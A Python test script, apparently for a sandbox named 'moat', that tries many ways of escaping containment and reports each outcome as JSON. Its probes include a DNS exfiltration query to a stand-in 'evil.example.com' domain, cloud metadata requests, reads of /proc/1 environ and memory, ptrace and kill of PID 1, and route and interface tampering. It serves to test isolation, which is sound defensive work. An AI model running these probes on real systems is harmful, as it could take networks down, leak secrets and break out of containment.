#!/usr/bin/python3
"""Run inside a sandbox: tries every way out, and says what came of each, as JSON.

usage: escape.py HOST_IP RAW_PORT ABSTRACT_NAME
"""

import ctypes
import errno
import fcntl
import glob
import json
import os
import socket
import struct
import sys
import time

# Outside of a sandbox these attempts would succeed: they take the network down, and worse.
if not os.path.exists("/run/moat/init") or socket.if_nameindex() != [(1, "lo")]:
    sys.exit("escape.py: this is no sandbox of moat's")

host_ip, raw_port, abstract = sys.argv[1], int(sys.argv[2]), sys.argv[3]
results = {}
libc = ctypes.CDLL(None, use_errno=True)


def attempt(name):
    def decorate(function):
        start = time.monotonic()
        try:
            outcome = function()
        except OSError as e:
            outcome = errno.errorcode.get(e.errno, str(e)) if e.errno else "error: %s" % e
        except Exception as e:  # noqa: BLE001 (the outcome is what is asked for)
            outcome = "error: %r" % e
        results[name] = {"outcome": outcome, "seconds": round(time.monotonic() - start, 2)}
    return decorate


def talk_tcp(family, address, payload=b"\0hello from inside\n"):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(20)
        s.connect(address)
        s.sendall(payload)
        got = b""
        while True:
            more = s.recv(4096)
            if not more:
                break
            got += more
        return "answer: " + got.decode("latin-1")[:300] if got else "closed"


def talk_udp(family, address, payload=b"hello"):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.connect(address)
        s.send(payload)
        try:
            return "answer: %r" % s.recv(4096)
        except socket.timeout:
            return "silence"


def dns_query(name, kind):
    query = struct.pack(">HHHHHH", 0x4d4d, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        query += bytes([len(label)]) + label.encode()
    return query + b"\0" + struct.pack(">HH", kind, 1)


def dns_outcome(answer):
    rcode, count = answer[3] & 15, struct.unpack(">H", answer[6:8])[0]
    return "rcode %d, %d answers" % (rcode, count)


@attempt("inherited descriptors")
def _():
    listing = os.open("/proc/self/fd", os.O_RDONLY)
    found = [int(fd) for fd in os.listdir(listing)]
    # Python itself opens the descriptor that lists, and holds this script open.
    return [fd for fd in sorted(found) if 2 < fd < listing
            and not os.path.samefile("/proc/self/fd/%d" % fd, sys.argv[0])]


@attempt("tcp to the host's own service")
def _():
    return talk_tcp(socket.AF_INET, (host_ip, raw_port))


@attempt("tcp to the host's loopback service")
def _():
    return talk_tcp(socket.AF_INET, ("127.0.0.1", raw_port))


@attempt("tcp to an outside address, odd port")
def _():
    return talk_tcp(socket.AF_INET, ("93.184.216.34", 4444))


@attempt("tcp to an outside address, ssh")
def _():
    return talk_tcp(socket.AF_INET, ("93.184.216.34", 22), b"SSH-2.0-probe\r\n")


@attempt("tcp over IPv6")
def _():
    return talk_tcp(socket.AF_INET6, ("2606:2800:220:1:248:1893:25c8:1946", 4444))


@attempt("http over IPv6")
def _():
    return talk_tcp(socket.AF_INET6, ("2606:2800:220:1:248:1893:25c8:1946", 80),
                    b"GET / HTTP/1.1\r\nHost: [fe80::1]\r\nConnection: close\r\n\r\n")


@attempt("metadata service")
def _():
    return talk_tcp(socket.AF_INET, ("169.254.169.254", 80),
                    b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n"
                    b"Connection: close\r\n\r\n")


@attempt("metadata service, IPv4-mapped")
def _():
    return talk_tcp(socket.AF_INET6, ("::ffff:169.254.169.254", 80),
                    b"GET /latest/meta-data/ HTTP/1.1\r\nHost: [::ffff:169.254.169.254]\r\n"
                    b"Connection: close\r\n\r\n")


@attempt("host's private address by http")
def _():
    return talk_tcp(socket.AF_INET, (host_ip, raw_port),
                    ("GET / HTTP/1.1\r\nHost: %s:%d\r\nConnection: close\r\n\r\n"
                     % (host_ip, raw_port)).encode())


@attempt("loopback of the host by name in Host")
def _():
    return talk_tcp(socket.AF_INET, ("93.184.216.34", raw_port),
                    ("GET / HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nConnection: close\r\n\r\n"
                     % raw_port).encode())


@attempt("udp")
def _():
    return talk_udp(socket.AF_INET, ("93.184.216.34", 443))


@attempt("udp to the host")
def _():
    return talk_udp(socket.AF_INET, (host_ip, 9999))


@attempt("udp over IPv6")
def _():
    return talk_udp(socket.AF_INET6, ("2606:2800:220:1:248:1893:25c8:1946", 443))


@attempt("icmp raw")
def _():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    return "got a raw socket"


@attempt("packet socket")
def _():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    return "got a packet socket"


@attempt("dns exfiltration, TXT to 8.8.8.8")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        s.sendto(dns_query("c2VjcmV0.evil.example.com", 16), ("8.8.8.8", 53))
        return dns_outcome(s.recv(4096))


@attempt("dns over tcp to 8.8.8.8")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect(("8.8.8.8", 53))
        query = dns_query("single", 1)
        s.sendall(struct.pack(">H", len(query)) + query)
        return dns_outcome(s.recv(4096)[2:])


@attempt("dns over IPv6 to 2001:4860:4860::8888")
def _():
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        s.sendto(dns_query("metadata.google.internal", 1), ("2001:4860:4860::8888", 53))
        return dns_outcome(s.recv(4096))


@attempt("vsock to the hypervisor's host")
def _():
    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)
    return "got a vsock"


@attempt("io_uring")
def _():
    parameters = ctypes.create_string_buffer(256)
    ring = libc.syscall(425, 4, parameters)
    return "got a ring" if ring >= 0 else errno.errorcode[ctypes.get_errno()]


@attempt("abstract unix socket of the host")
def _():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect("\0" + abstract)
        return "connected"


@attempt("moat-init's socket again")
def _():
    found = []
    for path in glob.glob("/run/**/*", recursive=True) + glob.glob("/.moat*/**", recursive=True):
        try:
            if not (os.stat(path).st_mode & 0o170000) == 0o140000:
                continue
            with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
                s.connect(path)
                found.append(path)
        except OSError:
            pass
    return "connected to %s" % found if found else "none answers"


def rtnetlink_add_route():
    """RTM_NEWROUTE 0.0.0.0/0 unicast via lo, replacing what is there."""
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    body = struct.pack("=BBBBBBBBI", socket.AF_INET, 0, 0, 0, 254, 4, 0, 1, 0)
    body += struct.pack("=HHI", 8, 4, 1)  # RTA_OIF 1
    s.send(struct.pack("=IHHII", 16 + len(body), 24, 1 | 4 | 0x400 | 0x100, 1, 0) + body)
    answer = s.recv(4096)
    return -struct.unpack("=i", answer[16:20])[0]


@attempt("add a route")
def _():
    code = rtnetlink_add_route()
    return errno.errorcode.get(code, "done")


@attempt("take lo down")
def _():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        fcntl.ioctl(s, 0x8914, struct.pack("16sH22x", b"lo", 0))
    return "done"


@attempt("add a route from a new user namespace")
def _():
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        if libc.unshare(0x10000000) != 0:
            os.write(write_end, b"unshare: " + os.strerror(ctypes.get_errno()).encode())
            os._exit(0)
        try:
            code = rtnetlink_add_route()
            os.write(write_end, errno.errorcode.get(code, "done").encode())
        except OSError as e:
            os.write(write_end, errno.errorcode[e.errno].encode())
        os._exit(0)
    os.close(write_end)
    os.waitpid(pid, 0)
    return os.read(read_end, 100).decode()


@attempt("become root by a setuid program")
def _():
    return open("/proc/self/status").read().split("NoNewPrivs:")[1].split()[0]


@attempt("capabilities")
def _():
    status = open("/proc/self/status").read()
    return {name: status.split(name + ":")[1].split()[0]
            for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")}


@attempt("ptrace of PID 1")
def _():
    result = libc.ptrace(16, 1, 0, 0)
    return "attached" if result == 0 else errno.errorcode[ctypes.get_errno()]


for name in ("environ", "mem", "maps", "fd/0", "root/etc/passwd", "exe"):
    @attempt("/proc/1/" + name)
    def _(name=name):
        with open("/proc/1/" + name, "rb") as f:
            data = f.read(100) if name != "mem" else b"opened"
        return "read %d bytes" % len(data)


@attempt("docker socket")
def _():
    paths = ["/var/run/docker.sock", "/run/docker.sock"]
    return [path for path in paths if os.path.exists(path)]


@attempt("kill PID 1")
def _():
    os.kill(1, 9)
    time.sleep(0.1)
    return "still here"


@attempt("mount")
def _():
    result = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
    return "mounted" if result == 0 else errno.errorcode[ctypes.get_errno()]


@attempt("own server on any port")
def _():
    with socket.create_server(("127.0.0.1", 8443)) as server:
        client = socket.create_connection(("127.0.0.1", 8443), timeout=3)
        peer, _address = server.accept()
        client.sendall(b"mine")
        return peer.recv(10).decode()


@attempt("interfaces")
def _():
    return [name for _, name in socket.if_nameindex()]


print(json.dumps(results, indent=1))
